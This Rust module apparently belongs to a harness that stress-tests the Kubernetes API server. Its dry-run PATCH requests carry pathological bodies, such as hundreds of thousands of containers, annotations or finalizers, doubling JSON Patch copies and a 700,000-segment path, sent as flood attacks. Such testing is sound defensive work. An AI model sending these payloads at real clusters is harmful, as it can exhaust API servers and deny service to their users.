//! Attacks with patches of every type on existing objects. No patch changes a stored object.

use super::{Attack, join_numbered, repeat};
use crate::attack::AttackMethod::Flood;
use crate::attack::AttackUser::Privileged;
use crate::client::Prepared;
use crate::dataset::{NAMESPACE, TARGET};

const JSON_PATCH: &str = "application/json-patch+json";
const MERGE: &str = "application/merge-patch+json";
const STRATEGIC: &str = "application/strategic-merge-patch+json";
const APPLY: &str = "application/apply-patch+yaml";

fn patch(resource: &str, media_type: &str, body: String) -> Vec<Prepared> {
    let group = if resource == "deployments" { "/apis/apps/v1" } else { "/api/v1" };
    let query = if media_type == APPLY { "&fieldManager=attack&force=true" } else { "" };
    let path = format!("{group}/namespaces/{NAMESPACE}/{resource}/{TARGET}?dryRun=All{query}");
    vec![Prepared::with_body("PATCH", path, media_type, body)]
}

fn pod_spec(elements: impl Fn(usize) -> String, count: usize) -> String {
    join_numbered(r#"{"apiVersion":"v1","kind":"Pod","spec":{"containers":["#, elements, count, "]}}")
}

pub fn attacks() -> Vec<Attack> {
    let mut attacks = applies();
    attacks.extend(json_patches());
    attacks.extend(merges());
    attacks
}

fn applies() -> Vec<Attack> {
    vec![
        Attack::new("apply: 128 containers of one name", Flood(2), Some(Privileged), || {
            patch("pods", APPLY, pod_spec(|_| r#"{"name":"a"}"#.to_owned(), 128))
        }),
        Attack::new("apply: 200,000 containers of one name", Flood(1), Some(Privileged), || {
            patch("pods", APPLY, pod_spec(|_| r#"{"name":"a"}"#.to_owned(), 200_000))
        }),
        Attack::new("apply: 130,000 containers", Flood(1), None, || {
            patch("pods", APPLY, pod_spec(|n| format!(r#"{{"name":"a{n}"}}"#), 130_000))
        }),
        Attack::new("apply: 900,000 empty containers", Flood(1), None, || {
            patch("pods", APPLY, pod_spec(|_| "{}".to_owned(), 900_000))
        }),
        Attack::new("apply: 150,000 ports of one key", Flood(1), None, || {
            let before = r#"{"apiVersion":"v1","kind":"Service","spec":{"ports":["#;
            patch("services", APPLY, repeat(before, r#"{"port":80}"#, 150_000, "]}}"))
        }),
        Attack::new("apply: 200,000 finalizers", Flood(1), None, || {
            let before = r#"{"apiVersion":"v1","kind":"Secret","metadata":{"finalizers":["#;
            patch("secrets", APPLY, join_numbered(before, |n| format!(r#""a/f{n}""#), 200_000, "]}}"))
        }),
    ]
}

fn json_patches() -> Vec<Attack> {
    vec![
        Attack::new("JSON Patch: a copy that doubles, 40 times", Flood(1), Some(Privileged), || {
            let copy = |n| {
                format!(
                    r#"{{"op":"copy","from":"/metadata/annotations","path":"/metadata/annotations/c{n}"}}"#
                )
            };
            let before = r#"[{"op":"add","path":"/metadata/annotations","value":{"a":"a"}},"#;
            patch("pods", JSON_PATCH, join_numbered(before, copy, 40, "]"))
        }),
        Attack::new("JSON Patch: 3,000 copies of 100 kB", Flood(1), None, || {
            let text = "x".repeat(100_000);
            let before =
                format!(r#"[{{"op":"add","path":"/metadata/annotations","value":{{"a":"{text}"}}}},"#);
            let copy = |n| {
                format!(
                    r#"{{"op":"copy","from":"/metadata/annotations/a","path":"/metadata/annotations/c{n}"}}"#
                )
            };
            patch("pods", JSON_PATCH, join_numbered(&before, copy, 3_000, "]"))
        }),
        Attack::new("JSON Patch: 9,999 insertions before the first", Flood(1), None, || {
            let insert = r#"{"op":"add","path":"/spec/containers/0","value":{"name":"b"}}"#;
            patch("pods", JSON_PATCH, repeat("[", insert, 9_999, "]"))
        }),
        Attack::new("JSON Patch: 900,000 operations that are none", Flood(1), None, || {
            patch("pods", JSON_PATCH, repeat("[", "{}", 900_000, "]"))
        }),
        Attack::new("JSON Patch: 9,999 tests that fail last", Flood(1), None, || {
            let test = r#"{"op":"test","path":"/kind","value":"Pod"}"#;
            let after = r#",{"op":"test","path":"/kind","value":"x"}]"#;
            patch("pods", JSON_PATCH, repeat("[", test, 9_998, after))
        }),
        Attack::new("JSON Patch: a path of 700,000 segments", Flood(1), None, || {
            let path = "/a".repeat(700_000);
            patch("pods", JSON_PATCH, format!(r#"[{{"op":"add","path":"{path}","value":0}}]"#))
        }),
    ]
}

fn merges() -> Vec<Attack> {
    let annotations = |count| {
        let annotation = |n| format!(r#""a{n}":"""#);
        join_numbered(r#"{"metadata":{"annotations":{"#, annotation, count, "}}}")
    };
    vec![
        Attack::new("merge patch: 220,000 annotations", Flood(1), None, move || {
            patch("pods", MERGE, annotations(220_000))
        }),
        Attack::new("merge patch: 950,000 empty containers", Flood(1), Some(Privileged), || {
            patch("pods", MERGE, repeat(r#"{"spec":{"containers":["#, "{}", 950_000, "]}}"))
        }),
        Attack::new("merge patch of a Secret: 60,000 values that are numbers", Flood(1), None, || {
            let value = |n| format!(r#""a{n}":{n}"#);
            patch("secrets", MERGE, join_numbered(r#"{"data":{"#, value, 60_000, "}}"))
        }),
        Attack::new("strategic merge patch: 130,000 containers", Flood(1), Some(Privileged), || {
            let container = |n| format!(r#"{{"name":"a{n}"}}"#);
            patch("pods", STRATEGIC, join_numbered(r#"{"spec":{"containers":["#, container, 130_000, "]}}"))
        }),
        Attack::new("strategic merge patch: 200,000 containers of one name", Flood(1), None, || {
            let container = r#"{"name":"a"}"#;
            patch("pods", STRATEGIC, repeat(r#"{"spec":{"containers":["#, container, 200_000, "]}}"))
        }),
        Attack::new("strategic merge patch: 900,000 containers without a key", Flood(1), None, || {
            patch("pods", STRATEGIC, repeat(r#"{"spec":{"containers":["#, "{}", 900_000, "]}}"))
        }),
        Attack::new("strategic merge patch: an order of 70,000", Flood(1), None, || {
            let key = |n| format!(r#"{{"name":"a{n}"}}"#);
            let order = join_numbered(r#""$setElementOrder/containers":["#, key, 70_000, "]");
            let containers = join_numbered(r#""containers":["#, key, 70_000, "]");
            patch("pods", STRATEGIC, format!(r#"{{"spec":{{{order},{containers}}}}}"#))
        }),
        Attack::new("strategic merge patch: 110,000 finalizers, added and deleted", Flood(1), None, || {
            let finalizer = |n| format!(r#""a/f{n}""#);
            let added = join_numbered(r#""finalizers":["#, finalizer, 110_000, "]");
            let deleted =
                join_numbered(r#""$deleteFromPrimitiveList/finalizers":["#, finalizer, 110_000, "]");
            patch("pods", STRATEGIC, format!(r#"{{"metadata":{{{added},{deleted}}}}}"#))
        }),
        Attack::new("strategic merge patch: 80,000 deletions by key", Flood(1), None, || {
            let delete = |n| format!(r#"{{"name":"a{n}","$patch":"delete"}}"#);
            patch(
                "deployments",
                STRATEGIC,
                join_numbered(r#"{"spec":{"template":{"spec":{"containers":["#, delete, 80_000, "]}}}}"),
            )
        }),
    ]
}
